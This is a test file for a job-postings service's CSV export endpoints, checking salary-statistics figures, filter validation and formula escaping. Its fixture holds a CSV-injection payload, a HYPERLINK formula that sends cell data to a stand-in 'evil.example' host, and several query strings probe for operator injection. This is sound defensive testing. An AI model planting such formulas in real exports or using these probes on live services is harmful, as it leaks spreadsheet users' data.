import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KNOWN_POSTINGS, hourlyPayPoints, percentileInc } from './fixtures/known-postings.ts';
import { seedKnownPostings } from './seed.ts';
import { startTestServer } from './server-harness.ts';
import type { TestServer } from './server-harness.ts';

let t: TestServer;
beforeAll(async () => {
  t = await startTestServer({ STATS_MIN_SAMPLE: '3' });
  await seedKnownPostings(t.runtime);
  // A scraped posting whose employer name is a spreadsheet formula (CSV injection attempt).
  const r = await t.runtime.ingest(
    [
      {
        source: 'fixture-careers',
        sourceId: 'req-evil',
        url: 'https://careers.example.org/jobs/req-evil',
        title: 'Peer Support Specialist',
        employer: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for pay")',
        location: 'Akron, OH',
        pay: '$18.00 - $20.00 per hour',
        description: '<p>Peer Support Specialist using lived experience of recovery to support adults in our outpatient clinic.</p>',
        datePosted: '2026-10-20T09:00:00Z',
      },
    ],
    { waitForIndex: true },
  );
  expect(r.rejections).toEqual([]);
});
afterAll(async () => {
  await t?.close();
});

/** A small RFC 4180 reader for checking what we wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('GET /export/salary-stats.csv', () => {
  it('streams one row per group with the same figures as salaryStats', async () => {
    const res = await t.request('/export/salary-stats.csv?groupBy=STATE');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="salary-stats.csv"');
    const [header, ...rows] = parseCsv(await res.text());
    expect(header).toEqual([
      'state', 'count', 'with_pay', 'pay_transparency',
      'hourly_min', 'hourly_p10', 'hourly_p25', 'hourly_median', 'hourly_p75', 'hourly_p90', 'hourly_max', 'hourly_mean',
      'annual_min', 'annual_p10', 'annual_p25', 'annual_median', 'annual_p75', 'annual_p90', 'annual_max', 'annual_mean',
      'suppressed', 'sample_size', 'min_sample',
    ]);
    const ky = rows.find((r) => r[0] === 'KY')!;
    const kyPoints = hourlyPayPoints(KNOWN_POSTINGS.filter((p) => p.state === 'KY'));
    expect(Number(ky[1])).toBe(5);
    expect(Number(ky[2])).toBe(kyPoints.length);
    expect(Number(ky[7])).toBeCloseTo(percentileInc(kyPoints, 0.5), 2);
    expect(Number(ky[9])).toBeCloseTo(percentileInc(kyPoints, 0.9), 2);
    expect(rows.map((r) => r[0]).sort()).toEqual(['KY', 'OH', 'PA']);
  });

  it('takes the filter as query parameters, lists in any case', async () => {
    const res = await t.request('/export/salary-stats.csv?states=oh&employmentTypes=full_time,PART_TIME&groupBy=employment_type');
    const [header, ...rows] = parseCsv(await res.text());
    expect(header![0]).toBe('employment_type');
    const counts = Object.fromEntries(rows.map((r) => [r[0], Number(r[1])]));
    expect(counts).toEqual({ FULL_TIME: 9, PART_TIME: 1 });
  });

  it.each([
    ['groupBy=COLOR', /groupBy: unknown dimension "color"/],
    ['settings=PRISON', /^settings\.0: one of TREATMENT_CENTER, HOSPITAL_ED, .*MOUD$/],
    ['payMinHourly=lots', /payMinHourly: a number, got "lots"/],
    ['includeExpired=yes', /includeExpired: true or false/],
    ['states=OH&states[$gt]=', /states\[\$gt\]: unknown parameter/],
    ['employerId[$ne]=x', /employerId\[\$ne\]: unknown parameter/],
    ['postedWithinDays=1&postedWithinDays=2', /postedWithinDays: given more than once/],
    ['nearCity=Columbus', /near: give both city and state/],
  ])('refuses %s with 400 and says why', async (qs, message) => {
    const res = await t.request(`/export/salary-stats.csv?${qs}`);
    expect(res.status).toBe(400);
    const body = (await res.json()) as { errors: { message: string; extensions: { code: string } }[] };
    expect(body.errors[0]!.extensions.code).toBe('BAD_USER_INPUT');
    expect(body.errors[0]!.message).toMatch(message);
  });
});

describe('GET /export/postings.csv', () => {
  it('streams the matching postings, newest first', async () => {
    const res = await t.request('/export/postings.csv?states=KY');
    expect(res.status).toBe(200);
    expect(res.headers.get('x-total-count')).toBe('5');
    const [header, ...rows] = parseCsv(await res.text());
    expect(header!.slice(0, 5)).toEqual(['id', 'title', 'employer', 'role_family', 'settings']);
    expect(rows).toHaveLength(5);
    const col = (name: string) => header!.indexOf(name);
    for (const r of rows) expect(r[col('state')]).toBe('KY');
    const dates = rows.map((r) => r[col('date_posted')]!);
    expect([...dates].sort().reverse()).toEqual(dates);
    const navigator = rows.find((r) => r[col('title')] === 'Peer Navigator')!;
    expect(navigator[col('pay_period')]).toBe('YEAR');
    expect(Number(navigator[col('hourly_min')])).toBeCloseTo(18.5, 2);
    expect(navigator[col('status')]).toBe('ACTIVE');
  });

  it('takes search text and a pay minimum', async () => {
    const res = await t.request('/export/postings.csv?query=certified%20peer%20specialist&payMinHourly=20');
    const [header, ...rows] = parseCsv(await res.text());
    expect(rows.map((r) => r[1])).toContain('Certified Peer Specialist - Mobile Crisis');
    expect(rows.map((r) => r[1])).not.toContain('Certified Peer Specialist'); // $17-$19: below the minimum
    for (const r of rows) expect(Number(r[header!.indexOf('hourly_max')])).toBeGreaterThanOrEqual(20);
  });

  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const text = await (await t.request('/export/postings.csv?states=OH&query=akron')).text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal?d=""&A1,""Click for pay"")"`);
    const rows = parseCsv(text);
    const employers = rows.slice(1).map((r) => r[2]!);
    for (const e of employers) expect(e).not.toMatch(/^[=+\-@]/);
  });

  it('refuses an unknown sort', async () => {
    const res = await t.request('/export/postings.csv?sort=RANDOM');
    expect(res.status).toBe(400);
    expect(((await res.json()) as { errors: { message: string }[] }).errors[0]!.message).toMatch(/sort: one of RELEVANCE, NEWEST/);
  });
});
